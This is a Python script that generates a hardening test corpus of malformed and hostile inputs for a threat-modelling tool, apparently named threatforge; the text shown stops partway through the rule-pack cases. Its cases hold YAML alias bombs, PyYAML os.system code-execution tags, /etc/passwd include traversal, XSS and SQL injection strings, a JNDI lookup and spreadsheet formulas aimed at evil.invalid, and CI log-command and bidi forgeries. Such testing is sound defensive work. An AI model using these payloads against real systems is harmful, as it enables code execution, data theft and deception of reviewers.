"""Write the bad-input corpus (``model/``, ``packs/``, ``sarif/``, ``baseline/``) and its manifest.

Run ``python tests/corpus/generate.py`` after adding a case; commit the files it writes. Every
case says what it exercises and what threatforge must answer: ``refused`` (exit 2, a message that
names the file and, where there is one, the line), ``loads`` (a valid input whose hostile text
must survive verbatim) or ``tolerated`` (read without error; the odd parts are skipped). Cases
marked ``cli`` also run through the real command line in a subprocess (bounded time and memory).

Inputs too big to commit (a 17 MB file, a 1 MB scalar), and those git cannot carry (symlinks,
a directory, a named pipe, include loops) are built by ``tests/hardening/test_corpus.py``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEAD = (
    b"system: {name: Shop}\n"
    b"boundaries:\n"
    b"  internet: {trust: untrusted}\n"
    b"  app: {trust: trusted}\n"
    b"components:\n"
    b"  web: {kind: service, zone: app}\n"
)
"""A valid model of 6 lines; wrong-type cases append to it (their bad line is 7 or later)."""

PACK_HEAD = (
    b"pack: corpus\n"
    b"rules:\n"
    b"  - id: corpus-rule\n"
    b'    title: "{element} is a service"\n'
    b"    description: A test rule.\n"
    b"    target: component\n"
    b"    likelihood: 2\n"
    b"    impact: 2\n"
    b"    stride: [tampering]\n"
    b"    cwe: [20]\n"
    b"    mitigations: [Fix it.]\n"
)
"""A valid pack rule without its ``when:`` (line 12 onwards)."""


@dataclass(frozen=True)
class Case:
    """One corpus file and what threatforge must do with it."""

    path: str
    content: bytes
    about: str
    outcome: str = "refused"
    message: str = ""
    line: int | None = None
    names: str | None = None
    """The file the message names, when it is not this one (a missing include)."""
    known_bug: str = ""
    """A bug this case shows that is not fixed yet (its test is an expected failure until then)."""


CLI_SUBSET = frozenset(
    {
        "model/syntax-unclosed-flow-mapping.yaml",
        "model/alias-bomb-billion-laughs.yaml",
        "model/merge-key-fan-out.yaml",
        "model/nesting-flow-10000.yaml",
        "model/nesting-block-10000.yaml",
        "model/huge-int-100000-digits.yaml",
        "model/huge-many-errors.yaml",
        "model/utf16-le-bom.yaml",
        "model/binary-png.png",
        "model/confusable-cyrillic-id.yaml",
        "model/include-traversal.yaml",
        "packs/python-tag.yaml",
        "packs/alias-bomb.yaml",
        "sarif/nesting-10000.sarif",
        "model/hidden-nel-ends-a-comment.yaml",
        "model/escaped-noncharacter-in-a-name.yaml",
        "model/nesting-boundaries-65.yaml",
        "baseline/nesting-100000.json",
        "baseline/nan.json",
        "sarif/tolerated-wrong-types.sarif",
    }
)
"""Cases that also run through the command line in a child process (time, memory, exit code)."""


def _nest_block_mappings(levels: int) -> bytes:
    lines = ["system: {name: Shop}", "components:"]
    lines += [" " * (2 + i) + f"k{i}:" for i in range(levels)]
    return ("\n".join(lines) + " x\n").encode()


def _laughs(kind: str) -> bytes:
    if kind == "list":
        rows = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        rows += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    else:
        rows = ["l0: &l0 {a: lol, b: lol, c: lol, d: lol, e: lol, f: lol, g: lol, h: lol, i: lol}"]
        rows += [
            f"l{i}: &l{i} {{{', '.join(f'{k}: *l{i - 1}' for k in 'abcdefghi')}}}"
            for i in range(1, 10)
        ]
    return ("system: {name: Shop}\n" + "\n".join(rows) + "\n").encode()


def _merge_fan_out() -> bytes:
    keys = ", ".join(f"k{i}: {i}" for i in range(1000))
    rows = [f"base: &base {{{keys}}}", "system: {name: Shop}", "copies:"]
    rows += ["  - {<<: *base}"] * 300
    return ("\n".join(rows) + "\n").encode()


def _merge_chain() -> bytes:
    keys = ", ".join(f"k{i}: {i}" for i in range(1000))
    rows = [f"m0: &m0 {{{keys}}}"]
    rows += [f"m{i}: &m{i} {{<<: *m{i - 1}, n{i}: {i}}}" for i in range(1, 400)]
    return ("\n".join(rows) + "\nsystem: {name: Shop}\n").encode()


_HIDDEN_DECISION = (
    b"# TODO: ask the PCI team<BREAK>tracking: {'rule@web': {status: accepted, owner: mallory, "
    b"justification: reviewed, expires: 2027-01-31}}\n"
)
"""Line 7: a comment that a hidden line break turns into a live decision."""


def _nested_boundaries(levels: int) -> bytes:
    """A valid model whose boundaries sit each inside the previous one, ``levels`` deep."""
    lines = ["system: {name: Deep}", "boundaries:", "  z0: {trust: untrusted}"]
    lines += [f"  z{n}: {{trust: trusted, inside: z{n - 1}}}" for n in range(1, levels)]
    lines += ["components:", f"  web: {{kind: service, zone: z{levels - 1}}}"]
    return ("\n".join(lines) + "\n").encode()


def _png() -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
        b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
        b"\x00\x00\x00IEND\xaeB`\x82"
    )


XSS = {
    "system.name": "<script>alert('system.name')</script>",
    "system.description": '"><img src=x onerror=alert(document.domain)>',
    "system.owner": "javascript:alert('owner')",
    "system.repository": 'https://example.invalid/"onmouseover="alert(1)',
    "system.version": "{{7*7}}${7*7}<%= 7*7 %>",
    "system.compliance": "</title><svg/onload=alert('compliance')>",
    "data.name": "<iframe src=javascript:alert('data')>",
    "data.description": "[click](javascript:alert('md')) | a | table | <b>bold</b>",
    "data.owner": '=HYPERLINK("http://evil.invalid","x")',
    "boundary.name": "<style>*{display:none}</style>",
    "boundary.description": "<!-- --><script>alert('boundary')</script>",
    "boundary.region": "</textarea><script>alert('region')</script>",
    "boundary.property": "<a href='javascript:alert(1)'>x</a>",
    "component.name": "<img src=x onerror=alert('component')>",
    "component.description": "<svg><script>alert('svg')</script></svg>\n```\n# heading\n",
    "component.owner": "@here <!channel> ${jndi:ldap://evil.invalid/a}",
    "component.tag": "<marquee>tag</marquee>",
    "component.path": "services/<script>/**",
    "component.property": "'; DROP TABLE findings; --",
    "flow.name": "<body onload=alert('flow')>",
    "flow.description": "\u202eevil\u202c <script>alert('bidi')</script>",
    "flow.tag": "+cmd|' /C calc'!A0",
    "control.name": "<details open ontoggle=alert('control')>",
    "control.description": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "control.reference": "javascript:alert('reference')",
    "assumption.description": "<object data=javascript:alert('assumption')>",
    "tracking.justification": "<script>alert('justification')</script> & \"quotes\" 'too'",
    "tracking.owner": "<b onmouseover=alert('owner')>alice</b>",
    "tracking.ticket": "SEC-1\"><script>alert('ticket')</script>",
}
"""Markup, script, template, formula and bidi text for every free-text field of the model."""


def _q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _xss_model() -> bytes:
    x = {key: _q(value) for key, value in XSS.items()}
    return f"""# Every free-text field holds markup or script: the model is valid and must
# load; reports escape it, the JSON assessment keeps it verbatim.
system:
  name: {x["system.name"]}
  description: {x["system.description"]}
  owner: {x["system.owner"]}
  repository: {x["system.repository"]}
  version: {x["system.version"]}
  compliance: [{x["system.compliance"]}]
data:
  cards:
    name: {x["data.name"]}
    description: {x["data.description"]}
    owner: {x["data.owner"]}
    classification: restricted
    categories: [pci.pan]
boundaries:
  internet:
    name: {x["boundary.name"]}
    description: {x["boundary.description"]}
    trust: untrusted
    kind: internet
  app:
    trust: trusted
    region: {x["boundary.region"]}
    properties: {{note: {x["boundary.property"]}}}
components:
  shopper: {{kind: actor, zone: internet}}
  api:
    kind: service
    zone: app
    name: {x["component.name"]}
    description: {x["component.description"]}
    owner: {x["component.owner"]}
    exposure: public
    authn: none
    processes: [cards]
    tags: [{x["component.tag"]}]
    paths: [{x["component.path"]}]
    properties: {{note: {x["component.property"]}}}
flows:
  - shopper -> api:
      protocol: http
      data: [cards]
      name: {x["flow.name"]}
      description: {x["flow.description"]}
      tags: [{x["flow.tag"]}]
controls:
  waf:
    name: {x["control.name"]}
    description: {x["control.description"]}
    reference: {x["control.reference"]}
    status: implemented
    applies_to: [api]
assumptions:
  trusted-admins:
    description: {x["assumption.description"]}
    elements: [api]
tracking:
  "cleartext-sensitive-flow@shopper->api":
    status: accepted
    justification: {x["tracking.justification"]}
    owner: {x["tracking.owner"]}
    ticket: {x["tracking.ticket"]}
    expires: 2099-12-31
""".encode()


INJECTION_MODEL = rb"""# Names that attack the job log, the PR comment and the diagrams
# (issue #14 items 5, 9, 14, 16): the model is valid and must load; every output shows the
# text, none obeys it. Escape sequences (ESC, BEL) and carriage returns cannot be written in a
# model file at all, even escaped (escaped-escape-character-in-a-name.yaml); line breaks, tabs
# and bidi controls can, so they are what this file carries.
system:
  name: "Shop\u202e\u2066\t\n::add-mask::x\nShop: gate passed (fail on high or above)"
  owner: "@payments-team"
data:
  pan: {classification: restricted, categories: [pci.pan]}
boundaries:
  internet: {trust: untrusted, name: "::stop-commands::pwned"}
  cde: {trust: restricted, name: "CDE\"] %%{init: {\"theme\": \"forest\"}}%% x[\""}
components:
  user: {kind: actor, zone: internet,
         name: "%%{init: {'themeCSS': '.sev_critical {fill: #fff}'}}%%"}
  db:
    kind: datastore
    zone: cde
    name: "<img src=x onerror=alert(1)> @admins ![](http://e/x.png)\n## No new findings"
    stores: [pan]
    authn: none
    encryption: {at_rest: none}
flows:
  - user -> db: {protocol: http, authn: none, data: [pan], name: "##vso[task.complete]done"}
tracking:
  "x <!-- y\n## No new findings @admins ![](http://e/x.png)":
    {status: accepted, owner: bob, expires: 2099-12-31,
     justification: "\u202e hidden\n::warning::x"}
"""
"""Valid model text for every human-facing output to show without obeying."""

VERDICT_MODEL = (
    "# Issue #14 item 9: a system named like the gate's verdict on a gate that fails, and for\n"
    "# fmt --diff bidi controls in a comment \u2066\u202e and a quoted scalar, a tab in another.\n"
    "components:\n"
    "  user: {kind: actor, zone: internet}\n"
    '  api: {zone: vpc, kind: service, authn: none, name: "API \u202egnp.exe"}  # ok\u2067\n'
    "flows:\n"
    "  - user -> api: {protocol: https, authn: none}\n"
    "boundaries:\n"
    "  internet: {trust: untrusted}\n"
    '  vpc: {trust: trusted, description: "a\tb"}\n'
    "system:\n"
    '  name: "x\\n\u2713 PASS: 0 new findings\\ngate passed for \\"x\\" (fail on high or above)"\n'
).encode()
"""Valid, not in canonical order (so ``fmt --diff`` prints it): the verdict and the diff show
the text escaped, and the gate's last line is its only verdict."""


def _model_cases() -> list[Case]:
    m = "model/"
    wrong = [
        ("system-is-a-list", b"", "system: [Shop]\n", "system: 'system': Input should be", 1),
        ("system-name-is-a-mapping", b"", "system: {name: {first: Shop}}\n", "'name'", 1),
        ("data-is-a-list", HEAD, "data: [cards]\n", "'data': Input should be", 7),
        (
            "data-classification-is-a-number",
            HEAD,
            "data:\n  cards: {classification: 3}\n",
            "'classification' is '3'",
            8,
        ),
        (
            "boundaries-is-text",
            b"system: {name: Shop}\n",
            "boundaries: internet\n",
            "'boundaries': Input should be",
            2,
        ),
        (
            "boundary-trust-is-a-bool",
            b"system: {name: Shop}\n",
            "boundaries:\n  internet: {trust: yes}\n",
            "'trust' is 'True'",
            3,
        ),
        (
            "components-is-a-list",
            b"system: {name: Shop}\n",
            "components: [web]\n",
            "'components'",
            2,
        ),
        (
            "component-is-text",
            b"system: {name: Shop}\n",
            "components:\n  web: service\n",
            "component 'web'",
            3,
        ),
        (
            "component-stores-is-a-mapping",
            b"system: {name: Shop}\n",
            "components:\n  web: {kind: service, stores: {cards: true}}\n",
            "'stores': Input should be a valid list",
            3,
        ),
        (
            "component-property-is-nested",
            b"system: {name: Shop}\n",
            "components:\n  web: {kind: service, properties: {tls: {min: '1.2'}}}\n",
            "component 'web'",
            3,
        ),
        (
            "component-encryption-is-text",
            b"system: {name: Shop}\n",
            "components:\n  db: {kind: datastore, encryption: strong}\n",
            "'encryption': Input should be",
            3,
        ),
        ("flows-is-a-mapping", HEAD, "flows: {web: internet}\n", "'flows': Input should be", 7),
        ("flow-is-text", HEAD, "flows:\n  - web -> api\n", "flow 1", 8),
        (
            "flow-port-is-text",
            HEAD,
            "  api: {kind: service, zone: app}\nflows:\n  - web -> api: {port: https}\n",
            "'port': Input should be a valid integer",
            9,
        ),
        (
            "flow-port-is-huge",
            HEAD,
            "  api: {kind: service, zone: app}\n"
            "flows:\n  - web -> api: {port: 99999999999999999999999}\n",
            "'port': Input should be less than or equal to 65535",
            9,
        ),
        ("controls-is-a-list", HEAD, "controls: [waf]\n", "'controls': Input should be", 7),
        ("assumptions-is-a-number", HEAD, "assumptions: 42\n", "'assumptions': Input should be", 7),
        ("tracking-is-a-list", HEAD, "tracking: [x@web]\n", "'tracking': Input should be", 7),
        (
            "tracking-expires-is-not-a-date",
            HEAD,
            "tracking:\n  x@web: {status: accepted, justification: ok, expires: 2027-13-45}\n",
            "'expires'",
            8,
        ),
        (
            "include-is-a-mapping",
            HEAD,
            "include: {parts: a.yaml}\n",
            "'include': Input should be",
            7,
        ),
        (
            "version-is-text",
            HEAD,
            "version: two\n",
            "'version': Input should be a valid integer",
            7,
        ),
        (
            "retention-is-infinite",
            b"system: {name: Shop}\n",
            "data:\n  logs: {classification: internal, retention_days: .inf}\n",
            "'retention_days'",
            3,
        ),
    ]
    cases = [
        Case(
            m + f"wrong-type-{name}.yaml",
            head + tail.encode(),
            f"wrong type: {name.replace('-', ' ')}",
            message=message,
            line=line,
        )
        for name, head, tail, message, line in wrong
    ]
    long_value = "a" * 20_000
    cases += [
        # --- syntax -----------------------------------------------------------------------
        Case(
            m + "syntax-unclosed-flow-mapping.yaml",
            b"system: {name: Shop\ncomponents: {}\n",
            "a flow mapping that is never closed",
            message="invalid YAML",
            line=2,
        ),
        Case(
            m + "syntax-bad-indentation.yaml",
            HEAD + b"   api: {kind: service}\n",
            "a key indented deeper than its siblings",
            message="invalid YAML",
            line=7,
        ),
        Case(
            m + "syntax-tab-indentation.yaml",
            b"system:\n\tname: Shop\n",
            "a tab used for indentation",
            message="invalid YAML",
            line=2,
        ),
        Case(
            m + "syntax-unclosed-quote.yaml",
            b'system: {name: "Shop}\ncomponents: {}\n',
            "a double quote that is never closed",
            message="invalid YAML",
            line=3,
        ),
        Case(
            m + "syntax-multiple-documents.yaml",
            b"system: {name: A}\n---\nsystem: {name: B}\n",
            "two YAML documents in one file",
            message="more than one YAML document",
            line=2,
        ),
        Case(
            m + "syntax-top-level-list.yaml",
            b"- system: {name: Shop}\n",
            "a list instead of a mapping",
            message="must be a mapping of sections",
            line=1,
        ),
        Case(
            m + "syntax-top-level-scalar.yaml",
            b"just some text\n",
            "a scalar instead of a mapping",
            message="must be a mapping of sections",
            line=1,
        ),
        Case(
            m + "syntax-duplicate-key.yaml",
            HEAD + b"  web: {kind: datastore}\n",
            "the same component id twice",
            message="repeats the key 'web'",
            line=7,
        ),
        Case(
            m + "syntax-mapping-as-key.yaml",
            b"system: {name: Shop}\n? {a: 1}\n: b\n",
            "a mapping used as a key",
            message="uses a mapping or list as a key",
            line=2,
        ),
        Case(
            m + "syntax-unknown-alias.yaml",
            b"system: {name: *missing}\n",
            "an alias to no anchor",
            message="unknown alias '*missing'",
            line=1,
        ),
        Case(
            m + "syntax-merge-of-a-scalar.yaml",
            b"system: {name: Shop, <<: 1}\n",
            "a merge key ('<<:') of a scalar",
            message="merges ('<<:') something",
            line=1,
        ),
        Case(
            m + "json-missing-comma.json",
            b'{"system": {"name": "Shop"}\n "components": {}}\n',
            "JSON with a missing comma",
            message="invalid YAML",
            line=2,
        ),
        Case(
            m + "json-unclosed.json",
            b'{"system": {"name": "Shop"}\n',
            "JSON that ends early",
            message="invalid YAML",
            line=2,
        ),
        Case(
            m + "json-wrong-types.json",
            b'{"system": {"name": ["Shop"]}, "components": 7}\n',
            "JSON with a list for a name and a number for a section",
            message="system: 'name': Input should be a valid string",
            line=1,
        ),
        # --- empty ------------------------------------------------------------------------
        Case(m + "empty.yaml", b"", "an empty file", message="is empty", line=1),
        Case(
            m + "empty-whitespace.yaml",
            b"  \n\n\t\n",
            "only whitespace",
            message="is empty",
            line=1,
        ),
        Case(
            m + "empty-comments.yaml",
            b"# a model\n# nothing yet\n",
            "only comments",
            message="must be a mapping of sections (system:, components:, ...), not empty",
            line=1,
        ),
        Case(
            m + "empty-document-markers.yaml",
            b"---\n...\n",
            "an empty YAML document",
            message="not empty",
            line=1,
        ),
        # --- alias bombs and merge blow-ups ----------------------------------------------
        Case(
            m + "alias-bomb-billion-laughs.yaml",
            _laughs("list"),
            "billion laughs: 9 lists of 9 aliases, 10 levels (3.8e8 values)",
            message="a YAML alias bomb",
            line=8,
        ),
        Case(
            m + "alias-bomb-mappings.yaml",
            _laughs("map"),
            "billion laughs with mappings instead of lists",
            message="a YAML alias bomb",
            line=8,
        ),
        Case(
            m + "merge-key-fan-out.yaml",
            _merge_fan_out(),
            "quadratic blow-up: one 1,000-key mapping merged into 300 mappings",
            message="copies more than 250,000 keys with merge keys",
            line=254,
        ),
        Case(
            m + "merge-key-chain.yaml",
            _merge_chain(),
            "quadratic blow-up: each of 400 mappings merges the previous one",
            message="copies more than 250,000 keys with merge keys",
            line=226,
        ),
        # --- nesting ----------------------------------------------------------------------
        Case(
            m + "nesting-block-100.yaml",
            _nest_block_mappings(100),
            "100 levels of block mappings",
            message="nested more than 48 levels",
            line=50,
        ),
        Case(
            m + "nesting-flow-100.yaml",
            b"system: {name: Shop}\nx: " + b"[" * 100 + b"]" * 100 + b"\n",
            "100 levels of flow lists",
            message="nested more than 48 levels",
            line=2,
        ),
        Case(
            m + "nesting-flow-10000.yaml",
            b"system: {name: Shop}\nx: " + b"[" * 10_000 + b"]" * 10_000 + b"\n",
            "10,000 levels of flow lists (libyaml stops at 1,000)",
            message="invalid YAML: exceeded maximum nesting depth",
            line=2,
        ),
        Case(
            m + "nesting-flow-mappings-10000.yaml",
            b"system: {name: Shop}\nx: " + b"{a: " * 10_000 + b"1" + b"}" * 10_000 + b"\n",
            "10,000 levels of flow mappings",
            message="nested more than 48 levels",
            line=2,
        ),
        Case(
            m + "nesting-block-10000.yaml",
            b"system: {name: Shop}\nx:\n" + b"- " * 10_000 + b"x\n",
            "10,000 levels of block lists ('- - - ...')",
            message="nested more than 48 levels",
            line=3,
        ),
        Case(
            m + "nesting-unclosed-10000.yaml",
            b"system: {name: Shop}\nx: " + b"[" * 10_000,
            "10,000 opened lists, never closed",
            message="invalid YAML: exceeded maximum nesting depth",
            line=2,
        ),
        # --- huge values ------------------------------------------------------------------
        Case(
            m + "huge-int-100000-digits.yaml",
            b"system: {name: Shop}\nversion: " + b"7" * 100_000 + b"\n",
            "an integer with 100,000 digits",
            message="has a number with 100,000 digits",
            line=2,
        ),
        Case(
            m + "huge-int-key.yaml",
            b"system: {name: Shop}\n? " + b"9" * 5000 + b"\n: x\n",
            "an integer key with 5,000 digits",
            message="has a number with 5,000 digits",
            line=2,
        ),
        Case(
            m + "huge-float.yaml",
            b"system: {name: Shop}\ndata:\n  d: {classification: public, retention_days: "
            + b"9" * 400
            + b".5}\n",
            "a float beyond double range (becomes inf)",
            message="'retention_days'",
            line=3,
        ),
        Case(
            m + "huge-enum-value.yaml",
            b"system: {name: Shop}\ncomponents:\n  web: {kind: " + long_value.encode() + b"}\n",
            "a 20,000-character kind: the message quotes at most 60 characters",
            message="'kind' is 'aaaa",
            line=3,
        ),
        Case(
            m + "huge-id.yaml",
            b"system: {name: Shop}\ncomponents:\n  ? "
            + long_value.encode()
            + b"\n  : {kind: service}\n",
            "a 20,000-character component id (explicit key)",
            message="is not a valid id",
            line=3,
        ),
        Case(
            m + "huge-plain-key.yaml",
            b"system: {name: Shop}\ncomponents:\n  " + b"k" * 2000 + b": {kind: service}\n",
            "a plain key longer than YAML's 1,024-character limit for simple keys",
            message="invalid YAML",
            line=3,
        ),
        Case(
            m + "huge-tag.yaml",
            b"system: {name: !" + b"t" * 20_000 + b" Shop}\n",
            "a 20,000-character tag",
            message="uses the YAML tag '!ttt",
            line=1,
        ),
        Case(
            m + "huge-many-errors.yaml",
            b"system: {name: Shop}\ncomponents:\n  web: {kind: service, tags: ["
            + b",".join([b"[]"] * 5000)
            + b"]}\n",
            "5,000 errors in one list: only the first 1,000 are listed",
            message="component 'web': Input should be a valid string",
            line=3,
        ),
        # --- encodings and bytes -------------------------------------------------------
        Case(
            m + "nul-byte.yaml",
            b"system: {name: Shop}\ncomponents: {\x00}\n",
            "a NUL byte",
            message="contains a NUL byte",
            line=2,
        ),
        Case(
            m + "invalid-utf8.yaml",
            b"system: {name: Caf\xe9}\n",
            "Latin-1 text (an invalid UTF-8 byte)",
            message="is not valid UTF-8 (byte 0xe9)",
            line=1,
        ),
        Case(
            m + "invalid-utf8-overlong.yaml",
            b"system: {name: \xc0\xafetc}\n",
            "an overlong UTF-8 encoding of '/'",
            message="is not valid UTF-8 (byte 0xc0)",
            line=1,
        ),
        Case(
            m + "invalid-utf8-surrogate.yaml",
            b"system: {name: \xed\xa0\x80}\n",
            "a UTF-8-encoded lone surrogate",
            message="is not valid UTF-8 (byte 0xed)",
            line=1,
        ),
        Case(
            m + "utf16-le-bom.yaml",
            "system: {name: Shop}\n".encode("utf-16"),
            "UTF-16 (little-endian) with a byte-order mark",
            message="is UTF-16 text",
            line=1,
        ),
        Case(
            m + "utf16-be-bom.yaml",
            b"\xfe\xff" + "system: {name: Shop}\n".encode("utf-16-be"),
            "UTF-16 (big-endian) with a byte-order mark",
            message="is UTF-16 text",
            line=1,
        ),
        Case(
            m + "utf32-le-bom.yaml",
            "system: {name: Shop}\n".encode("utf-32"),
            "UTF-32 with a byte-order mark",
            message="is UTF-32 text",
            line=1,
        ),
        Case(
            m + "control-character.yaml",
            b"system: {name: Shop\x07}\n",
            "a BEL control character",
            message="unacceptable character #x0007",
            line=1,
        ),
        Case(
            m + "binary-png.png",
            _png(),
            "a PNG image",
            message="contains a NUL byte",
            line=3,
        ),
        Case(
            m + "binary-jpeg.jpg",
            b"\xff\xd8\xff\xe0\x10JFIF",
            "a JPEG header",
            message="is not valid UTF-8 (byte 0xff)",
            line=1,
        ),
        # --- look-alike and invisible characters in ids ------------------------------------
        Case(
            m + "confusable-cyrillic-id.yaml",
            HEAD + "  p\u0430yments: {kind: service}\n".encode(),
            "a component id with a Cyrillic 'а' (U+0430)",
            message="is not a valid id",
            line=7,
        ),
        Case(
            m + "confusable-fullwidth-id.yaml",
            HEAD + "  \uff41\uff50\uff49: {kind: service}\n".encode(),
            "a fullwidth id 'ａｐｉ'",
            message="is not a valid id",
            line=7,
        ),
        Case(
            m + "confusable-zero-width-joiner.yaml",
            HEAD + "  api\u200dgw: {kind: service}\n".encode(),
            "an id with a zero-width joiner",
            message="is not a valid id",
            line=7,
        ),
        Case(
            m + "confusable-bidi-override.yaml",
            HEAD + "  \u202egw-ipa: {kind: service}\n".encode(),
            "an id with a right-to-left override ('Trojan Source')",
            message="is not a valid id",
            line=7,
        ),
        Case(
            m + "confusable-reference.yaml",
            HEAD + "  api: {kind: service, zone: app}\nflows:\n  - web -> \u0430pi: {}\n".encode(),
            "a flow to 'аpi' (Cyrillic а) where 'api' exists",
            message="is not a valid id",
            line=9,
        ),
        # --- tags that construct objects ------------------------------------------------
        Case(
            m + "tag-python-object-apply.yaml",
            b'system: !!python/object/apply:os.system ["touch pwned-by-threatforge-corpus"]\n',
            "PyYAML's code-execution tag: refused, never run",
            message="uses the YAML tag 'tag:yaml.org,2002:python/object/apply:os.system'",
            line=1,
        ),
        Case(
            m + "tag-python-name.yaml",
            b"system: {name: !!python/name:os.system ''}\n",
            "a python/name tag",
            message="python/name:os.system",
            line=1,
        ),
        Case(
            m + "tag-python-module.yaml",
            b"!!python/module:subprocess {}\n",
            "a python/module tag on the document",
            message="python/module:subprocess",
            line=1,
        ),
        Case(
            m + "tag-binary.yaml",
            b"system: {name: !!binary aGVsbG8=}\n",
            "a !!binary value",
            message="tag:yaml.org,2002:binary",
            line=1,
        ),
        Case(
            m + "tag-set.yaml",
            b"system: {name: Shop}\ncomponents: !!set {web: null}\n",
            "a !!set",
            message="tag:yaml.org,2002:set",
            line=2,
        ),
        Case(
            m + "tag-local-include.yaml",
            b"system: {name: Shop}\ncomponents: !include x.yaml\n",
            "a local '!include' tag (other tools' include syntax)",
            message="'!include'",
            line=2,
        ),
        # --- includes that escape -------------------------------------------------------
        Case(
            m + "include-absolute.yaml",
            HEAD + b"include: [/etc/passwd]\n",
            "an absolute include",
            message="is an absolute path",
            line=7,
        ),
        Case(
            m + "include-windows-absolute.yaml",
            HEAD + b"include: ['C:\\Windows\\win.ini']\n",
            "a Windows absolute include",
            message="is an absolute path",
            line=7,
        ),
        Case(
            m + "include-traversal.yaml",
            HEAD + b"include: [../../../../../../etc/passwd]\n",
            "an include that climbs out of the model's folder",
            message="resolves outside the model's folder",
            line=7,
        ),
        Case(
            m + "include-self.yaml",
            HEAD + b"include: [include-self.yaml]\n",
            "a file that includes itself",
            message="makes a loop",
            line=7,
        ),
        Case(
            m + "include-missing.yaml",
            HEAD + b"include: [no-such-part.yaml]\n",
            "an include of a file that does not exist",
            message="no such file",
            line=None,
            names="model/no-such-part.yaml",
        ),
        # --- line breaks and characters a reviewer does not see (issue 14, 3 and 20) -----
        Case(
            m + "hidden-nel-ends-a-comment.yaml",
            HEAD + _HIDDEN_DECISION.replace(b"<BREAK>", "\x85".encode()),
            "a NEL (U+0085) ends a comment, so the 'tracking:' after it would be live",
            message="unacceptable character #x0085 (NEL, next line)",
            line=7,
        ),
        Case(
            m + "hidden-ls-ends-a-comment.yaml",
            HEAD + _HIDDEN_DECISION.replace(b"<BREAK>", "\u2028".encode()),
            "a LINE SEPARATOR (U+2028) ends a comment",
            message="unacceptable character #x2028 (LINE SEPARATOR)",
            line=7,
        ),
        Case(
            m + "hidden-ps-ends-a-comment.yaml",
            HEAD + _HIDDEN_DECISION.replace(b"<BREAK>", "\u2029".encode()),
            "a PARAGRAPH SEPARATOR (U+2029) ends a comment",
            message="unacceptable character #x2029 (PARAGRAPH SEPARATOR)",
            line=7,
        ),
        Case(
            m + "hidden-lone-cr-ends-a-comment.yaml",
            HEAD + _HIDDEN_DECISION.replace(b"<BREAK>", b"\r"),
            "a carriage return without a line feed ends a comment",
            message="a carriage return (#x000d) without a line feed after it",
            line=7,
        ),
        Case(
            m + "loads-crlf-line-endings.yaml",
            HEAD.replace(b"\n", b"\r\n") + b"# a comment\r\n",
            "CRLF line endings (Windows): a carriage return before a line feed is fine",
            outcome="loads",
        ),
        Case(
            m + "escaped-noncharacter-in-a-name.yaml",
            b'system: {name: "Shop \\uFFFE"}\n',
            "U+FFFE written as an escape: every SVG would be ill-formed XML",
            message="has an escape that gives an unacceptable character #xfffe",
            line=1,
        ),
        Case(
            m + "escaped-escape-character-in-a-name.yaml",
            HEAD + b'  api: {kind: service, name: "\\e]0;owned\\a"}\n',
            "an ESC written as an escape: a terminal sequence in every output",
            message="has an escape that gives an unacceptable character #x001b",
            line=7,
        ),
        Case(
            m + "escaped-line-separator-in-a-key.yaml",
            HEAD + b'  "api\\L": {kind: service}\n',
            "a LINE SEPARATOR written as an escape in an id",
            message="has an escape that gives an unacceptable character #x2028",
            line=7,
        ),
        Case(
            m + "raw-noncharacter-fdd0.yaml",
            b"system: {name: Shop}\n# \xef\xb7\x90\n",
            "a raw noncharacter U+FDD0 (libyaml itself accepts it)",
            message="unacceptable character #xfdd0: Unicode noncharacters are not allowed",
            line=2,
        ),
        # --- deep nesting of boundaries (issue 14, item 11) -----------------------------
        Case(
            m + "nesting-boundaries-65.yaml",
            _nested_boundaries(65),
            "65 boundaries each inside the last: one level past the bound of 64",
            message="boundary 'z64' is nested more than 64 levels deep: z64 -> z63",
            line=67,
        ),
        Case(
            m + "loads-nesting-boundaries-64.yaml",
            _nested_boundaries(64),
            "64 boundaries each inside the last: at the bound",
            outcome="loads",
        ),
        # --- valid models with hostile text ---------------------------------------------
        Case(
            m + "loads-html-in-every-text-field.yaml",
            _xss_model(),
            "markup, script, template and formula text in every free-text field",
            outcome="loads",
        ),
        Case(
            m + "loads-terminal-and-comment-injection.yaml",
            INJECTION_MODEL,
            "line breaks, bidi controls, CI workflow commands, Mermaid directives, mentions and a "
            "forged "
            "section in names and a tracking key",
            outcome="loads",
        ),
        Case(
            m + "loads-verdict-forging-name-and-bidi-comments.yaml",
            VERDICT_MODEL,
            "a system named like the gate's verdict (after line breaks, closing its quotes); bidi "
            "controls and a tab for fmt --diff to print",
            outcome="loads",
        ),
    ]
    return cases


def _pack_cases() -> list[Case]:
    p = "packs/"
    return [
        Case(
            p + "rules-is-text.yaml",
            b"pack: corpus\nrules: all of them\n",
            "'rules' is text, not a list",
            message="'rules': input should be a valid list",
            line=2,
        ),
        Case(
            p + "empty.yaml",
            b"",
            "an empty pack",
            message="is empty: a rule pack needs",
            line=1,
        ),
        Case(
            p + "python-tag.yaml",
            b'!!python/object/apply:os.system ["touch pwned"]\n',
            "PyYAML's code-execution tag",
            message="python/object/apply:os.system",
            line=1,
        ),
        Case(
            p + "alias-bomb.yaml",
            _laughs("list").replace(b"system: {name: Shop}\n", b""),
            "billion laughs in a pack",
            message="a YAML alias bomb",
            line=7,
        ),
        Case(
            p + "nesting-10000.yaml",
            b"pack: corpus\nrules: " + b"[" * 10_000 + b"]" * 10_000,
            "10,000 nested lists",
            message="exceeded maximum nesting depth",
            line=2,
        ),
        Case(
            p + "condition-nesting-100.yaml",
            PACK_HEAD + b"    when: " + b"{not: " * 100 + b"{kind: service}" + b"}" * 100 + b"\n",
            "a condition of 100 nested 'not:'",
            message="nested more than 48 levels",
            line=12,
        ),
        Case(
            p + "unknown-head.yaml",
            PACK_HEAD + b"    when: {eval: '__import__(\"os\")'}\n",
            "a condition head that is code",
            message="unknown condition key 'eval'",
            line=12,
        ),
        Case(
            p + "nul-byte.yaml",
